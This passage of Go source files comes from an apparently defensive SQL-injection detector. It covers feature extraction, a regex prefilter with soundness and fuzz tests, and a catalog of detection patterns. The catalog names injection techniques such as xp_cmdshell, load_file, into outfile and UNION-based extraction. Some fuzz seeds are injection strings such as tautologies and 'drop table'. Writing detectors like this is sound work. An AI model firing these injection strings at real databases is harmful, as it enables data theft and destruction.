	return m, nil
}

// SparseMatrix extracts all samples into an n×d CSR count matrix, storing
// only the features that fired — the pipeline's working backing.
func (e *Extractor) SparseMatrix(samples []string) (*matrix.Sparse, error) {
	b := matrix.NewSparseBuilder(len(e.set.Features))
	for _, s := range samples {
		cols, vals := e.SparseVector(s)
		if err := b.AppendSparse(cols, vals); err != nil {
			return nil, err
		}
	}
	return b.Build(), nil
}

// PruneUnobserved drops features whose column is zero in every sample of m
// (the 477 → 159 step). It returns the reduced matrix (same backing), the
// reduced set, and the kept column indices into the original set.
func PruneUnobserved(m matrix.RowMatrix, set Set) (matrix.RowMatrix, Set, []int, error) {
	if m.Cols() != set.Len() {
		return nil, Set{}, nil, fmt.Errorf("feature: matrix has %d columns, set %d", m.Cols(), set.Len())
	}
	observed := make([]bool, m.Cols())
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					observed[j] = true
				}
			}
			continue
		}
		for _, j := range cols {
			observed[j] = true
		}
	}
	var kept []int
	for j, ok := range observed {
		if ok {
			kept = append(kept, j)
		}
	}
	sub, err := m.SelectCols(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	reduced, err := set.Select(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	return sub, reduced, kept, nil
}

// Dedupe collapses identical samples, returning the unique samples with
// their multiplicities. Order of first appearance is preserved. Running the
// pipeline on deduplicated samples with weights is equivalent to running it
// on the full corpus.
func Dedupe(samples []string) (unique []string, weights []float64) {
	idx := make(map[string]int, len(samples))
	for _, s := range samples {
		if k, ok := idx[s]; ok {
			weights[k]++
			continue
		}
		idx[s] = len(unique)
		unique = append(unique, s)
		weights = append(weights, 1)
	}
	return unique, weights
}

// BinaryizeInPlace clamps every positive count to 1 — used by the
// binary-vs-count ablation the paper mentions ("this did not produce good
// results"). Both matrix backings implement the clamp natively.
func BinaryizeInPlace(m matrix.RowMatrix) {
	m.Binaryize()
}

// PruneDuplicateColumns removes features whose observed count column is
// identical to an earlier feature's — the "overlapping features" the paper
// removes on the way from 477 candidates to 159 (two regexes that always
// fire the same number of times on the training corpus carry no independent
// signal). It returns the reduced matrix (same backing), the reduced set,
// and the kept column indices. Columns are compared by their nonzero
// (row, value) profile, accumulated in one O(nnz) pass.
func PruneDuplicateColumns(m matrix.RowMatrix, set Set) (matrix.RowMatrix, Set, []int, error) {
	if m.Cols() != set.Len() {
		return nil, Set{}, nil, fmt.Errorf("feature: matrix has %d columns, set %d", m.Cols(), set.Len())
	}
	sigs := make([][]byte, m.Cols())
	appendCell := func(i, j int, v float64) {
		buf := sigs[j]
		buf = strconv.AppendInt(buf, int64(i), 10)
		buf = append(buf, ':')
		buf = strconv.AppendFloat(buf, v, 'g', -1, 64)
		buf = append(buf, ',')
		sigs[j] = buf
	}
	for i := 0; i < m.Rows(); i++ {
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					appendCell(i, j, v)
				}
			}
			continue
		}
		for k, j := range cols {
			appendCell(i, j, vals[k])
		}
	}
	seen := make(map[string]bool, m.Cols())
	var kept []int
	for j := 0; j < m.Cols(); j++ {
		k := string(sigs[j])
		if seen[k] {
			continue
		}
		seen[k] = true
		kept = append(kept, j)
	}
	sub, err := m.SelectCols(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	reduced, err := set.Select(kept)
	if err != nil {
		return nil, Set{}, nil, err
	}
	return sub, reduced, kept, nil
}
