package feature

import (
	"reflect"
	"testing"

	"psigene/internal/acmatch"
	"psigene/internal/attackgen"
	"psigene/internal/normalize"
)

// The prefilter's one correctness obligation is soundness: whenever a
// gated pattern's regex matches a sample, at least one of its required
// literals must occur in the sample's folded view — otherwise the gate
// would skip an evaluation that changes extraction output. These tests
// check that implication over the production gate itself (the compiled
// automaton and its owner lists, not a re-derivation) on the same
// deterministic probe corpus the analysis package audits with, and fuzz
// it on arbitrary bytes.

// soundnessCorpus mirrors analysis.ProbeCorpus — the four scanner
// profiles at the default seed, normalized like serving traffic. The
// analysis package imports this one, so the corpus is rebuilt here
// rather than imported.
func soundnessCorpus(perProfile int, seed int64) []string {
	profiles := []attackgen.Profile{
		attackgen.CrawlProfile(),
		attackgen.SQLMapProfile(),
		attackgen.ArachniProfile(),
		attackgen.VegaProfile(),
	}
	out := make([]string, 0, perProfile*len(profiles))
	for _, p := range profiles {
		g := attackgen.NewGenerator(p, seed)
		for _, r := range g.Requests(perProfile) {
			out = append(out, normalize.Normalize(r.Payload()))
		}
	}
	return out
}

func TestPrefilterSoundnessOnProbeCorpus(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	pre := ex.pre
	if pre == nil || pre.ac == nil {
		t.Fatal("catalog extractor built no prefilter automaton")
	}
	if len(pre.always) != 0 {
		t.Errorf("catalog has %d always-run patterns; psigenelint opaquepattern should have caught them", len(pre.always))
	}
	if gated := len(ex.patterns) - len(pre.always); gated == 0 {
		t.Fatal("no gated patterns to test")
	}

	perProfile := 1000
	if testing.Short() {
		perProfile = 100
	}
	corpus := soundnessCorpus(perProfile, 42)

	alwaysRun := make([]bool, len(ex.patterns))
	for _, pi := range pre.always {
		alwaysRun[pi] = true
	}
	fired := make([]bool, len(ex.patterns))
	var violations int
	for _, sample := range corpus {
		for i := range fired {
			fired[i] = false
		}
		pre.ac.Scan([]byte(acmatch.Fold(sample)), func(lit int32) {
			for _, pi := range pre.owners[lit] {
				fired[pi] = true
			}
		})
		// Every pattern the gate would skip must genuinely not match.
		for pi := range ex.patterns {
			if fired[pi] || alwaysRun[pi] {
				continue
			}
			if ex.patterns[pi].re.MatchString(sample) {
				violations++
				if violations <= 5 {
					t.Errorf("pattern %q matches %q but none of its required literals fired",
						ex.set.Features[ex.patterns[pi].col].Pattern, sample)
				}
			}
		}
	}
	if violations > 5 {
		t.Errorf("... and %d more soundness violations", violations-5)
	}
}

// FuzzPrefilterSoundness drives the end-to-end property on arbitrary
// bytes: extraction with the gate on and off must agree exactly. The
// seed corpus leans on the fold edge cases (ſ U+017F and the Kelvin
// sign U+212A share (?i) orbits with s and k) and on invalid UTF-8.
func FuzzPrefilterSoundness(f *testing.F) {
	gated, err := NewExtractor(Catalog())
	if err != nil {
		f.Fatal(err)
	}
	plain, err := NewExtractor(Catalog())
	if err != nil {
		f.Fatal(err)
	}
	plain.SetPrefilter(false)

	seeds := []string{
		"",
		"id=1",
		"1' or '1'='1' --",
		"union select password from users",
		"UNION ſELECT 1,2,3", // ſ folds with s under (?i)
		"\u212aELVIN union",  // Kelvin sign folds with k
		"%27%20OR%201%3D1",
		"/* comment */ ; drop table t",
		"\xc5\xbf\xff\x00binary\x00junk\xe2\x84",
		"exists(select 1)&x=concat(a,b)",
	}
	for _, s := range seeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		sample := string(b)
		gc, gv := gated.SparseVector(sample)
		pc, pv := plain.SparseVector(sample)
		if !reflect.DeepEqual(gc, pc) || !reflect.DeepEqual(gv, pv) {
			t.Fatalf("prefiltered extraction diverges on %q:\n  gated cols=%v vals=%v\n  plain cols=%v vals=%v",
				sample, gc, gv, pc, pv)
		}
	})
}
