package feature

// This file holds the raw feature catalog (Table II). The census — 477
// candidate features across the three sources — plus pattern validity and
// uniqueness are enforced by executable checks: TestCatalogIntegrity in
// catalog_test.go and the catalog analyzers of cmd/psigenelint (run by
// `make lint`). The lint:ignore comments below answer specific analyzer
// findings; keep their reasons current when editing the lists.
//
//lint:file-ignore nevermatch the catalog is the paper's candidate census and intentionally over-approximates; features unobserved on a corpus are dropped by the train-time PruneUnobserved step (477 -> 159 in the paper), so a pattern without a probe-corpus match is expected inventory, not a flaw

// mysqlReservedWords is the MySQL 5.5 reserved-word list (reference manual
// §9.2), the paper's first feature source. Each word becomes a
// whole-token count feature.
var mysqlReservedWords = []string{
	"accessible", "add", "all", "alter", "analyze", "and", "as", "asc",
	"asensitive", "before", "between", "bigint", "binary", "blob", "both",
	"by", "call", "cascade", "case", "change", "char", "character", "check",
	"collate", "column", "condition", "constraint", "continue", "convert",
	"create", "cross", "current_date", "current_time", "current_timestamp",
	"current_user", "cursor", "database", "databases", "day_hour",
	"day_microsecond", "day_minute", "day_second", "dec", "decimal",
	"declare", "default", "delayed", "delete", "desc", "describe",
	"deterministic", "distinct", "distinctrow", "div", "double", "drop",
	"dual", "each", "else", "elseif", "enclosed", "escaped", "exists",
	"exit", "explain", "false", "fetch", "float", "float4", "float8", "for",
	"force", "foreign", "from", "fulltext", "grant", "group", "having",
	"high_priority", "hour_microsecond", "hour_minute", "hour_second", "if",
	"ignore", "in", "index", "infile", "inner", "inout", "insensitive",
	"insert", "int", "int1", "int2", "int3", "int4", "int8", "integer",
	"interval", "into", "is", "iterate", "join", "key", "keys", "kill",
	"leading", "leave", "left", "like", "limit", "linear", "lines", "load",
	"localtime", "localtimestamp", "lock", "long", "longblob", "longtext",
	"loop", "low_priority", "master_ssl_verify_server_cert", "match",
	"maxvalue", "mediumblob", "mediumint", "mediumtext", "middleint",
	"minute_microsecond", "minute_second", "mod", "modifies", "natural",
	"not", "no_write_to_binlog", "null", "numeric", "on", "optimize",
	"option", "optionally", "or", "order", "out", "outer", "outfile",
	"precision", "primary", "procedure", "purge", "range", "read", "reads",
	"read_write", "real", "references", "regexp", "release", "rename",
	"repeat", "replace", "require", "resignal", "restrict", "return",
	"revoke", "right", "rlike", "schema", "schemas", "second_microsecond",
	"select", "sensitive", "separator", "set", "show", "signal", "smallint",
	"spatial", "specific", "sql", "sqlexception", "sqlstate", "sqlwarning",
	"sql_big_result", "sql_calc_found_rows", "sql_small_result", "ssl",
	"starting", "straight_join", "table", "terminated", "then", "tinyblob",
	"tinyint", "tinytext", "to", "trailing", "trigger", "true", "undo",
	"union", "unique", "unlock", "unsigned", "update", "usage", "use",
	"using", "utc_date", "utc_time", "utc_timestamp", "values", "varbinary",
	"varchar", "varcharacter", "varying", "when", "where", "while", "with",
	"write", "xor", "year_month", "zerofill",
}

// signatureFragments is the paper's second feature source: signatures from
// Snort, Bro and the ModSecurity CRS deconstructed at regex group and
// alternation boundaries into individual fragments. The fragments listed in
// the paper (Table III and §IV) appear verbatim. All patterns are RE2
// (no backreferences) and compiled case-insensitively.
var signatureFragments = []string{
	// --- Fragments quoted directly in the paper. ---
	`=`, // Table III, feature 25
	//lint:ignore subsumed its optional class suffix makes every match start where a bare = matches, so the fire sets coincide; kept byte-for-byte from Table III and collapsed by the train-time duplicate-column prune
	`=[-0-9\%]*`,                      // Table III, feature 37
	`<=>|r?like|sounds\s+like|regexp`, // Table III, feature 53
	//lint:ignore caseclass kept byte-for-byte from the paper's Table III fragment; the extractor's (?i) makes the double-cased class harmless
	`([^a-zA-Z&]+)?&|exists`,    // Table III, feature 36
	`[\?&][^\s\t\x00-\x37\|]+?`, // Table III, feature 28
	`\)?;`,                      // Table III, feature 32
	`in\s*?\(+\s*?select`,       // Table II example
	//lint:ignore caseclass kept byte-for-byte from the paper's fragment list; the extractor's (?i) makes the double-cased class harmless
	`[^a-zA-Z&]+=`,        // Table II example
	`is\s+null`,           // ModSec CRS group example
	`like\s+null`,         // ModSec CRS group example
	`ch(a)?r\s*?\(\s*?\d`, // §IV signature 4 pattern
	`@`,                   // §IV signature 4 pattern
	`information_schema`,  // §IV signature 4 pattern
	`\.+union\s+select`,   // Snort's overly simple regex, §I

	// --- UNION-based extraction. ---
	`union\s+select`,
	`union\s+all\s+select`,
	`union\s*?(/\*.*?\*/)+\s*?select`,
	`select\s+null`,
	`null\s*,\s*null`,
	`select\s+\*\s+from`,
	`select\s+concat`,
	`order\s+by\s+\d+`,
	`limit\s+\d+\s*,\s*\d+`,
	`procedure\s+analyse`,

	// --- Tautologies and boolean logic. ---
	`\d+\s*=\s*\d+`,
	`'[^']*'\s*=\s*'[^']*'`,
	`or\s+\d+\s*=\s*\d+`,
	`and\s+\d+\s*=\s*\d+`,
	`or\s+'[^']*'\s*=\s*'`,
	`or\s+true`,
	`and\s+false`,
	`or\s+not\s+`,
	`and\s+not\s+`,
	`not\s+in\s*\(`,
	`\|\|`,
	`&&`,
	`!\s*=`,
	`<\s*>`,
	//lint:ignore subsumed probe-corpus coincidence with the or-equality reference pattern: generated quote tautologies always carry both shapes; the languages differ
	`'\s*or\s*'`,
	`"\s*or\s*"`,
	`'\s*and\s*'`,

	// --- Comment and termination tricks. ---
	`--`,
	`--\s`,
	`#`,
	`;\s*--`,
	`;\s*#`,
	`/\*`,
	//lint:ignore subsumed every generated comment both opens and closes, so this always fires with /\*; the languages differ (unclosed comments exist in the wild)
	`\*/`,
	//lint:ignore subsumed fires wherever /\* does on generated payloads; the closed-comment language is strictly narrower and the match counts differ
	`/\*.*?\*/`,
	`/\*!`,
	`/\*/`,

	// --- Stacked queries. ---
	//lint:ignore subsumed stacked-query templates always emit '; delete from ... where N=N', making this corpus-identical with delete\s+from and the numeric-tautology WHERE; the languages differ
	`;\s*delete`,
	//lint:ignore subsumed stacked-query templates always emit '; drop table', so this and drop\s+table are corpus-identical; the languages differ
	`;\s*drop`,
	`insert\s+into`,
	//lint:ignore subsumed corpus-identical with ;\s*delete by template construction; the languages differ
	`delete\s+from`,
	//lint:ignore subsumed corpus-identical with ;\s*drop by template construction; the languages differ
	`drop\s+table`,
	`drop\s+database`,

	// --- Time-based blind. ---
	`sleep\s*?\(`,
	`benchmark\s*?\(`,
	`and\s+sleep`,
	`or\s+sleep`,
	`waitfor\s+delay`,
	`pg_sleep\s*\(`,
	`rand\s*\(\s*\)`,

	// --- Error-based extraction. ---
	`extractvalue\s*?\(`,
	`updatexml\s*?\(`,
	`floor\s*\(\s*rand`,
	`cast\s*\(`,

	// --- String construction / obfuscation. ---
	//lint:ignore subsumed every generated char( call carries a digit argument, so this fires exactly with the ch(a)?r-digit reference pattern; the language without a digit requirement is strictly wider
	`char\s*?\(`,
	`concat\s*?\(`,
	`concat_ws\s*?\(`,
	`group_concat\s*?\(`,
	`0x[0-9a-f]+`,
	`unhex\s*\(`,
	`hex\s*\(`,
	`ascii\s*?\(`,
	`ord\s*\(`,
	`substr(ing)?\s*?\(`,
	`mid\s*?\(`,
	`length\s*?\(`,
	`strcmp\s*?\(`,

	// --- Environment and schema probing. ---
	//lint:ignore subsumed every @ in the probe corpus comes from an @@server-variable, so @ and @@ fire together; plain @ also matches payloads the generators do not emit and the counts differ
	`@@`,
	//lint:ignore subsumed fires exactly where @ does on the probe corpus because version is the generators' dominant @@variable; the language is far narrower
	`@@version`,
	`@@datadir`,
	`@@hostname`,
	`@@basedir`,
	`@@tmpdir`,
	`version\s*?\(\s*?\)`,
	`database\s*?\(\s*?\)`,
	`schema\s*?\(\s*?\)`,
	`user\s*?\(\s*?\)`,
	`current_user\s*?\(\s*?\)`,
	`session_user\s*?\(\s*?\)`,
	`system_user\s*?\(\s*?\)`,
	`connection_id\s*?\(`,
	`last_insert_id\s*?\(`,
	`found_rows\s*?\(`,
	`row_count\s*?\(`,
	`information_schema\.tables`,
	`information_schema\.columns`,
	`information_schema\.schemata`,
	`table_name`,
	//lint:ignore subsumed schema-probe templates always pair column_name with information_schema.columns; the languages differ
	`column_name`,
	`table_schema`,
	`mysql\.user`,
	`mysql\.db`,
	`from\s+dual`,

	// --- File and OS access. ---
	`load_file\s*?\(`,
	`into\s+outfile`,
	`into\s+dumpfile`,
	`load\s+data\s+infile`,
	`xp_cmdshell`,
	`sp_password`,
	`sp_executesql`,
	`exec\s*\(`,
	`exec\s+master`,
	`execute\s+immediate`,
	`utl_http`,
	`utl_inaddr`,

	// --- Subquery and conditional structure. ---
	`exists\s*\(\s*select`,
	`in\s*\(\s*select`,
	`=\s*\(\s*select`,
	`>\s*\(\s*select`,
	`<\s*\(\s*select`,
	`select\s+case`,
	`case\s+when`,
	`when\s+\d+\s*=\s*\d+`,
	`if\s*?\(`,
	`if\s*\(\s*\d`,
	`ifnull\s*?\(`,
	`nullif\s*\(`,
	`coalesce\s*?\(`,
	`greatest\s*\(`,
	`least\s*\(`,
	`count\s*\(\s*\*`,
	`having\s+\d+\s*=\s*\d+`,
	`group\s+by\s+.+\s+having`,
	`select\s+.*\s+from\s+.*\s+where`,
	//lint:ignore subsumed corpus-identical with ;\s*delete because stacked deletes always carry a numeric-tautology WHERE; the languages differ
	`where\s+\d+\s*=\s*\d+`,

	// --- Quoting and delimiter anomalies. ---
	`'`,
	`"`,
	"`",
	`'\s*\)`,
	`"\s*\)`,
	`\)\s*'`,
	`''`,
	//lint:ignore subsumed degenerates to '' on every generated payload; the whitespace-tolerant language is strictly wider
	`'\s*'`,
	`\\'`,
	`'\d+'\s*=\s*'\d+`,
	`%'`,
	`'%`,
	`\(\s*\)`,
	`\(+\s*select`,
	`\)\s*--`,
	`,\s*'`,
	`'\s*,`,
	`=\s*'`,
	`like\s+'%`,
	`like\s+0x`,
	`between\s+\d+\s+and`,
	`regexp\s+'`,
	`rlike\s+'`,
	`sounds\s+like`,
	`<=>`,
	`>=\s*\d`,
	`<=\s*\d`,
	`>>`,
	`<<`,
	`\^`,
	`~\d`,
	`\|\s*\d`,
	`&\s*\d`,
	`div\s+\d`,
	`%2[27]`,
	`%bf%27`,
	`(%27|')\s*(%6f|o|%4f)(%72|r|%52)`,
}

// referencePatterns is the paper's third feature source: common strings
// from SQLi reference documents (Clarke's "SQL Injection Attacks and
// Defense", the Websec pocket reference) shared by subject-matter experts.
var referencePatterns = []string{
	`'\s*or\s+1\s*=\s*1`,
	`'\s*or\s+'1'\s*=\s*'1`,
	`"\s*or\s+"1"\s*=\s*"1`,
	`'\s*or\s+''\s*=\s*'`,
	`"\s*or\s+""\s*=\s*"`,
	`\)\s*or\s*\('`,
	//lint:ignore subsumed both paren-breakout reference strings fire on the same generated samples; this quoted variant is the narrower language
	`'\s*\)\s*or\s*\(\s*'`,
	`admin'\s*--`,
	`admin'\s*#`,
	`'\s*order\s+by\s+[0-9]`,
	`'\s*order\s+by\s+[0-9]--\s-`,
	`1'1`,
	`\d+'\s*`,
	`'\s*\|\|\s*'`,
	`'\s*\+\s*'`,
	`'\s*&\s*'`,
	`\\"`,
	`'\s*%00`,
	`%00`,
	`-1\s+union`,
	`-\d+\s+union`,
	//lint:ignore subsumed corpus-identical with from\s+dual: the union templates that emit 'null union' also probe dual; the languages are unrelated
	`null\s+union`,
	`'\s+union`,
	`union\s*\(`,
	`and\s+\d+\s*=\s*\d+\s*--`,
	`or\s+\d+\s*=\s*\d+\s*--`,
	`and\s+1\s*=\s*2`,
	`or\s+1\s*=\s*2`,
	`and\s+substring\s*\(`,
	`and\s+ascii\s*\(`,
	`and\s+length\s*\(`,
	`and\s+mid\s*\(`,
	`and\s+ord\s*\(`,
	`and\s+\(\s*select`,
	`or\s+\(\s*select`,
	//lint:ignore subsumed exists-probe templates always expand to 'and exists (select * from ...)', pairing this with the select-star pattern; the languages differ
	`and\s+exists\s*\(`,
	`or\s+exists\s*\(`,
	`and\s+if\s*\(`,
	`or\s+if\s*\(`,
	//lint:ignore subsumed language subset of and\s+sleep; every generated 'and sleep' is a call, so the fire sets coincide
	`and\s+sleep\s*\(`,
	`or\s+benchmark\s*\(`,
	`or\s+updatexml\s*\(`,
	`and\s+extractvalue\s*\(`,
	//lint:ignore subsumed language subset of waitfor\s+delay; the generated MSSQL delay argument is always a quoted literal
	`waitfor\s+delay\s+'`,
	//lint:ignore subsumed corpus-identical with waitfor\s+delay: generated waitfors always follow a quote-break and take 'delay'; the languages differ
	`';\s*waitfor`,
	`declare\s+@`,
	`select\s+@@`,
	`union\s+select\s+@@`,
	`concat\s*\(\s*database\s*\(`,
	`concat\s*\(\s*version\s*\(`,
	`concat\s*\(\s*user\s*\(`,
	`char\s*\(\s*58\s*\)`,
	//lint:ignore subsumed error-based templates always wrap char(58) in concat, so this fires with the bare char(58) pattern; the language is narrower and the counts differ
	`concat\s*\(.*char\s*\(\s*58`,
	`unhex\s*\(\s*hex\s*\(`,
	`cast\s*\(.*as\s+char`,
	`convert\s*\(.*using\s+`,
	`from\s+information_schema`,
	`where\s+table_schema\s*=`,
	`and\s+row\s*\(`,
	`having\s+1\s*=\s*1`,
	`'\s*=\s*'`,
	`'\s*like\s*'`,
	`'\s*in\s*\(`,
	`'\s*between\s*'`,
	`or\s+'a'\s*=\s*'a`,
	`'a'\s*=\s*'a`,
	`\d+\s*=\s*\d+\s*--`,
	`1\s*=\s*1`,
	`2\s*>\s*1`,
	`'\s*<\s*'`,
	`%'\s+or\s+'`,
	`'\s*or\s*\d+\s*=\s*\d+`,
	//lint:ignore subsumed language subset of or\s+sleep; every generated 'or sleep' follows a quote-break
	`'\s*or\s+sleep\s*\(`,
	`or\s+pg_sleep\s*\(`,
	`or\s+char\s*\(`,
}
