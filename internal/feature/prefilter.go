package feature

import (
	"fmt"
	"regexp/syntax"
	"sort"
	"sync/atomic"

	"psigene/internal/acmatch"
)

// The staged-detection pre-filter. Every catalog regex is analyzed once,
// at extractor construction, for its *required literals*: a set of ASCII
// strings such that any text the (?i)-compiled pattern matches must
// contain at least one of them, case-insensitively. All literals of all
// patterns compile into one Aho-Corasick automaton (internal/acmatch);
// extraction scans each sample once and evaluates only the regexes whose
// literals actually occurred. Patterns with no derivable literal join the
// always-run set — counted in PrefilterStats, never silently dropped.
//
// Soundness is the only correctness requirement: a literal that fires
// without the regex matching costs one wasted regex evaluation, but a
// regex that could match while none of its literals fire would change
// extraction output. The derivation below is therefore conservative — any
// construct it cannot bound makes the node (and possibly the pattern)
// opaque. The acmatch scanner folds exactly like Go's regexp folds ASCII
// under (?i), including the two non-ASCII orbit members ſ U+017F → 's'
// and K U+212A → 'k', so case-variant and fold-variant spellings of a
// literal still hit.

const (
	// maxClassLiterals caps how many single-byte literals one character
	// class may contribute ([0-9] is worth expanding, [^\x00] is not).
	maxClassLiterals = 16
	// maxPatternLiterals caps a pattern's total literal set; beyond it
	// the pattern is treated as opaque (always-run) rather than bloating
	// the automaton.
	maxPatternLiterals = 64
)

// RequiredLiterals derives the required-literal set of a catalog pattern,
// analyzed exactly as the extractor compiles it: "(?i)" + pattern, Perl
// syntax. It returns the deduplicated, sorted, lowercase-ASCII literal
// set and ok=true when every way the pattern can match guarantees at
// least one of the literals, case-insensitively, in the matched text.
// ok=false means the pattern is prefilter-opaque (no such finite set was
// derivable) or does not parse; such patterns must always run.
func RequiredLiterals(pattern string) ([]string, bool) {
	re, err := syntax.Parse("(?i)"+pattern, syntax.Perl)
	if err != nil {
		return nil, false
	}
	lits, ok := nodeLiterals(re)
	if !ok || len(lits) == 0 {
		return nil, false
	}
	sort.Strings(lits)
	lits = dedupSorted(lits)
	if len(lits) > maxPatternLiterals {
		return nil, false
	}
	return lits, true
}

func dedupSorted(ss []string) []string {
	out := ss[:0]
	for i, s := range ss {
		if i == 0 || s != ss[i-1] {
			out = append(out, s)
		}
	}
	return out
}

// foldRuneASCII maps a rune that can appear in matched text to the byte
// the acmatch scanner folds it to: ASCII lowercased, ſ U+017F → 's',
// K U+212A → 'k'. Any other rune has no folded-ASCII image, so a literal
// containing it cannot be matched by the scanner.
func foldRuneASCII(r rune) (byte, bool) {
	switch {
	case r >= 'A' && r <= 'Z':
		return byte(r) + 'a' - 'A', true
	case r >= 0 && r < 0x80:
		return byte(r), true
	case r == 0x017F: // ſ folds with s
		return 's', true
	case r == 0x212A: // Kelvin sign folds with k
		return 'k', true
	}
	return 0, false
}

// pureLiteral reports the folded byte string of a pattern whose compiled
// form "(?i)"+pattern is exactly one literal — no classes, repetition,
// anchors, or alternation. Such patterns are counted by a direct folded
// byte scan (see countMatches), which allocates nothing, instead of
// running the regexp engine. Literals containing 's' or 'k' are excluded:
// their (?i) fold orbits include the multi-byte runes ſ U+017F and
// K U+212A, which a fixed-width byte scan cannot track — those patterns
// keep the regex path. Returns nil when the pattern does not qualify.
func pureLiteral(pattern string) []byte {
	re, err := syntax.Parse("(?i)"+pattern, syntax.Perl)
	if err != nil || re.Op != syntax.OpLiteral || len(re.Rune) == 0 {
		return nil
	}
	b := make([]byte, 0, len(re.Rune))
	for _, r := range re.Rune {
		c, ok := foldRuneASCII(r)
		if !ok || c == 's' || c == 'k' {
			return nil
		}
		b = append(b, c)
	}
	return b
}

// nodeLiterals computes the required-literal set of one parse-tree node:
// a set L such that every match of the node contains some l ∈ L in its
// folded view. ok=false when no such finite set exists for this node.
func nodeLiterals(re *syntax.Regexp) ([]string, bool) {
	switch re.Op {
	case syntax.OpLiteral:
		// A literal's match is the literal itself (any fold-variant when
		// the fold flag is set — the scanner folds those back).
		if len(re.Rune) == 0 {
			return nil, false
		}
		b := make([]byte, 0, len(re.Rune))
		for _, r := range re.Rune {
			c, ok := foldRuneASCII(r)
			if !ok {
				return nil, false
			}
			b = append(b, c)
		}
		return []string{string(b)}, true

	case syntax.OpCharClass:
		// A class matches exactly one rune from its ranges; every member
		// must fold to an ASCII byte and the expansion must stay small.
		seen := make(map[byte]bool, maxClassLiterals)
		var lits []string
		for i := 0; i+1 < len(re.Rune); i += 2 {
			for r := re.Rune[i]; r <= re.Rune[i+1]; r++ {
				c, ok := foldRuneASCII(r)
				if !ok {
					return nil, false
				}
				if seen[c] {
					continue
				}
				if len(lits) >= maxClassLiterals {
					return nil, false
				}
				seen[c] = true
				lits = append(lits, string([]byte{c}))
			}
		}
		if len(lits) == 0 {
			return nil, false
		}
		return lits, true

	case syntax.OpConcat:
		// Every child's text is present in the match, so any single
		// child's set works; pick the most selective one — longest
		// minimum literal, then fewest literals, then the earliest child
		// (a deterministic tie-break).
		var best []string
		bestScore := -1
		for _, sub := range re.Sub {
			lits, ok := nodeLiterals(sub)
			if !ok {
				continue
			}
			minLen := len(lits[0])
			for _, l := range lits[1:] {
				if len(l) < minLen {
					minLen = len(l)
				}
			}
			// Score: longer guaranteed literals dominate; among equals,
			// smaller sets win. 1024 bounds any real literal set size.
			score := minLen*1024 + (1024 - len(lits))
			if score > bestScore {
				best, bestScore = lits, score
			}
		}
		return best, best != nil

	case syntax.OpAlternate:
		// A match comes from some branch, so the union works — but every
		// branch must contribute, or a match through the opaque branch
		// could fire no literal.
		var union []string
		for _, sub := range re.Sub {
			lits, ok := nodeLiterals(sub)
			if !ok {
				return nil, false
			}
			union = append(union, lits...)
		}
		if len(union) == 0 || len(union) > maxPatternLiterals {
			return nil, false
		}
		return union, true

	case syntax.OpCapture:
		return nodeLiterals(re.Sub[0])

	case syntax.OpPlus:
		// x+ contains at least one x.
		return nodeLiterals(re.Sub[0])

	case syntax.OpRepeat:
		if re.Min >= 1 {
			return nodeLiterals(re.Sub[0])
		}
		return nil, false

	default:
		// OpStar, OpQuest, OpRepeat{0,n}: possibly empty. OpAnyChar*:
		// unbounded alphabet. Anchors, boundaries, OpEmptyMatch: zero
		// width. OpNoMatch: no text to anchor on. All opaque.
		return nil, false
	}
}

// prefilter is the compiled literal gate shared by every extraction path.
type prefilter struct {
	// ac matches every distinct literal of every gated pattern; nil when
	// no pattern contributed a literal.
	ac *acmatch.Automaton
	// lits holds the distinct literals in automaton pattern-index order.
	lits []string
	// owners maps a literal index to the e.patterns indices it gates.
	owners [][]int32
	// always holds the e.patterns indices evaluated on every sample:
	// the prefilter-opaque patterns.
	always []int32
}

// prefilterStats is the extractor's atomic counter block.
type prefilterStats struct {
	samples   atomic.Int64
	evaluated atomic.Int64
	skipped   atomic.Int64
}

// PrefilterStats is a snapshot of pre-filter effectiveness: cumulative
// per-sample counters plus the static census of the compiled gate.
type PrefilterStats struct {
	// Samples counts extractions that went through the pre-filter.
	Samples int64 `json:"samples"`
	// Evaluated and Skipped count regex evaluations run vs. avoided
	// across those samples (they sum to Samples × pattern count).
	Evaluated int64 `json:"evaluated"`
	Skipped   int64 `json:"skipped"`
	// Literals is the number of distinct automaton literals; Gated and
	// AlwaysRun split the pattern census by whether a literal set was
	// derivable.
	Literals  int `json:"literals"`
	Gated     int `json:"gated"`
	AlwaysRun int `json:"alwaysRun"`
}

// buildPrefilter derives every pattern's literal set and compiles the
// automaton. Construction is deterministic: literals are numbered in
// first-appearance order over patterns in column order.
func (e *Extractor) buildPrefilter() error {
	litIdx := make(map[string]int)
	pre := &prefilter{}
	for pi := range e.patterns {
		lits, ok := RequiredLiterals(e.set.Features[e.patterns[pi].col].Pattern)
		if !ok {
			pre.always = append(pre.always, int32(pi))
			continue
		}
		for _, l := range lits {
			k, seen := litIdx[l]
			if !seen {
				k = len(pre.lits)
				litIdx[l] = k
				pre.lits = append(pre.lits, l)
				pre.owners = append(pre.owners, nil)
			}
			pre.owners[k] = append(pre.owners[k], int32(pi))
		}
	}
	if len(pre.lits) > 0 {
		ac, err := acmatch.New(pre.lits)
		if err != nil {
			return fmt.Errorf("feature: compiling prefilter literals: %w", err)
		}
		pre.ac = ac
	}
	e.pre = pre
	return nil
}

// SetPrefilter enables or disables the literal pre-filter on this
// extractor (enabled by default). Extraction output is bit-identical
// either way; disabling exists for parity testing and benchmarking.
func (e *Extractor) SetPrefilter(enabled bool) { e.preOff.Store(!enabled) }

// PrefilterEnabled reports whether the pre-filter is active.
func (e *Extractor) PrefilterEnabled() bool { return !e.preOff.Load() }

// PrefilterStats snapshots the pre-filter counters and census.
func (e *Extractor) PrefilterStats() PrefilterStats {
	s := PrefilterStats{
		Samples:   e.stats.samples.Load(),
		Evaluated: e.stats.evaluated.Load(),
		Skipped:   e.stats.skipped.Load(),
	}
	if e.pre != nil {
		s.Literals = len(e.pre.lits)
		s.AlwaysRun = len(e.pre.always)
		s.Gated = len(e.patterns) - len(e.pre.always)
	}
	return s
}
