package feature

import (
	"testing"
	"testing/quick"

	"psigene/internal/normalize"
)

